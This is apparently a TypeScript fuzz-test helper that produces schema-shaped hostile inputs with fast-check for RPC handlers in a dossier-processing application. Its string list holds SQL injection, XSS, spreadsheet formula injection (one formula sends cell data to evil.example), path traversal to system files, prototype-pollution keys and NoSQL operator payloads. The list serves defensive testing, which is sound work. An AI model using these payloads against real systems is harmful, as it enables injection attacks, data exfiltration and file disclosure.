/**
 * Hostile inputs for the RPC fuzz test: the strings people (and attackers) actually type, and
 * arbitraries shaped after a row's own zod schema (its JSON Schema), so most calls get past the
 * first type check and reach the handler with a bad value somewhere inside.
 */
import fc from 'fast-check';

const NFD_NAME = 'Nguyễn Thị Hồng Đào'.normalize('NFD');

export const HOSTILE_STRINGS = [
  "'; DROP TABLE dossier;--",
  "' OR '1'='1",
  'Robert"); DELETE FROM outbox; --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '../../../../etc/passwd',
  '..\\..\\Windows\\win.ini',
  '%2e%2e%2f%2e%2e%2f',
  'null',
  'undefined',
  '__proto__',
  'constructor',
  '{"$gt":""}',
  '\u0000',
  '\u202Egnp.exe',
  '\uD800',
  '😀🇻🇳',
  NFD_NAME,
  `  ${NFD_NAME}  `,
  '',
  ' ',
  '2026-02-30',
  '2026-13-45',
  '2026-11-23T25:61:00+07:00',
  '9999-12-31T23:59:59Z',
  '-000001-01-01T00:00:00Z',
  '000.00.17.H56-261123-0001',
  '2.000815',
  '1.004194',
  'quantri',
  '038186001234',
];

export const HUGE_STRING = 'Đ'.repeat(100 * 1024);

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.constant(HUGE_STRING),
  fc.string({ maxLength: 40 }),
  fc.integer({ min: -1_000_000, max: 1_000_000 }),
  fc.constantFrom(-1, 0, -0, 1.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 2 ** 31),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.oneof(fc.string({ maxLength: 10 }), fc.integer(), fc.constant(null)), { maxLength: 4 }),
  fc.dictionary(fc.constantFrom('__proto__', 'constructor', 'id', 'name', 'x'), fc.string({ maxLength: 10 }), { maxKeys: 3 }),
);

type JsonSchema = {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  enum?: unknown[];
  const?: unknown;
  format?: string;
  pattern?: string;
  minimum?: number;
  maximum?: number;
};

/** Real values for well-known field names (a dossier id, a procedure code…), so calls reach the handlers. */
export type Hints = Record<string, unknown[]>;

const plausibleString = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.string({ minLength: 1, maxLength: 30 }),
  fc.constantFrom('Nguyễn Văn An', 'Thôn Đông, xã Tân Lập', '0912345678', 'an@example.vn'),
);

/** Values shaped like the schema, with a hostile value slipped in at random places. */
export function shapedBy(schema: JsonSchema, hints: Hints = {}, depth = 0): fc.Arbitrary<unknown> {
  if (depth > 4) return hostileValue;
  const wrap = (a: fc.Arbitrary<unknown>) => fc.oneof({ weight: 9, arbitrary: a }, { weight: 1, arbitrary: hostileValue });
  if (schema.const !== undefined) return wrap(fc.constant(schema.const));
  if (schema.enum) return wrap(fc.constantFrom(...schema.enum));
  const variants = schema.anyOf ?? schema.oneOf;
  if (variants?.length) return fc.oneof(...variants.map((v) => shapedBy(v, hints, depth + 1)));
  if (schema.allOf?.length) return shapedBy(schema.allOf[0]!, hints, depth + 1);
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case 'object': {
      const props = Object.entries(schema.properties ?? {});
      const required = new Set(schema.required ?? []);
      const record = fc.record(
        Object.fromEntries(
          props.map(([k, v]) => {
            const known = hints[k];
            const shaped = shapedBy(v, hints, depth + 1);
            return [k, known?.length ? fc.oneof(fc.constantFrom(...known), shaped) : shaped];
          }),
        ),
        { requiredKeys: props.map(([k]) => k).filter((k) => required.has(k)) },
      );
      // Now and then an unknown field rides along at the top (strict objects must refuse it).
      const extraKey = fc.oneof({ weight: depth === 0 ? 1 : 0, arbitrary: fc.constantFrom('isAdmin', '__proto__', 'role', 'extra') }, { weight: 8, arbitrary: fc.constant(null) });
      return wrap(fc.tuple(record, extraKey).map(([r, extra]) => (extra ? { ...(r as object), [extra]: true } : r)));
    }
    case 'array':
      return wrap(fc.array(shapedBy(schema.items ?? {}, hints, depth + 1), { maxLength: 3 }));
    case 'string':
      if (schema.format === 'date') return wrap(fc.constantFrom('2026-11-23', '2026-02-30', '2026-02-29', '2028-02-29', '1900-01-01'));
      if (schema.format === 'date-time') return wrap(fc.constantFrom('2026-11-23T09:00:00+07:00', '2026-02-30T09:00:00+07:00', '2026-11-23T09:00:00Z'));
      if (schema.pattern) {
        try {
          return wrap(fc.oneof(fc.stringMatching(new RegExp(schema.pattern)), plausibleString));
        } catch (err) {
          // A pattern JavaScript or fast-check cannot generate from (both throw an Error): fall
          // back to plausible strings.
          if (!(err instanceof Error)) throw err;
          return wrap(plausibleString);
        }
      }
      return wrap(plausibleString);
    case 'integer':
    case 'number':
      return wrap(
        fc.oneof(
          fc.integer({ min: schema.minimum ?? -10, max: Math.min(schema.maximum ?? 3000, 3000) }),
          fc.constantFrom(-1, 0, 2026, 100_000),
        ),
      );
    case 'boolean':
      return wrap(fc.boolean());
    case 'null':
      return fc.constant(null);
    default:
      return hostileValue;
  }
}
